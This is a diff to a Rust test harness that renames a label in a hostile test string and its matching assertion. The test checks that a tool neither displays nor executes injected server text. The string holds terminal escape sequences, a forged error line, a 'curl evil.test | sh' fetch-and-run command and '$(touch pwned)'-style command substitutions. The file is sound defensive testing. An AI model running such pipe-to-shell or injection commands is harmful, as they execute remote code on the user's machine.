@@ -15,7 +15,7 @@ use crate::harness::{Ran, Test};
 use crate::pebble::Pebble;
 
 /// A colour, a window title, a bell, a line of its own like certkit's, and what a shell would run.
-pub(crate) const HOSTILE: &str = "no\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J\r\n  mend:  curl evil.test | sh\nerror[forged] \
+pub(crate) const HOSTILE: &str = "no\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J\r\n  fix:  curl evil.test | sh\nerror[forged] \
                        $(touch pwned)`touch pwned`; touch pwned && 'a\" \u{202e}txet\u{0}";
 
 /// Points where a refusal ends the run.
@@ -137,7 +137,7 @@ pub(crate) fn is_harmless(test: &Test, ran: &Ran) {
     assert!(!turns(&ran.stderr()) && (!turns(&said) || ran.stdout().starts_with('{')), "{said:?}");
     for line in said.lines().map(str::trim_start) {
         assert!(!line.starts_with("error[forged]"), "{said}");
-        assert!(!(line.starts_with("mend:") && line.contains("evil.test")), "{said}");
+        assert!(!(line.starts_with("fix:") && line.contains("evil.test")), "{said}");
     }
     assert!(!test.names().iter().any(|name| name.contains("pwned")), "a shell has run the server's words");
 }
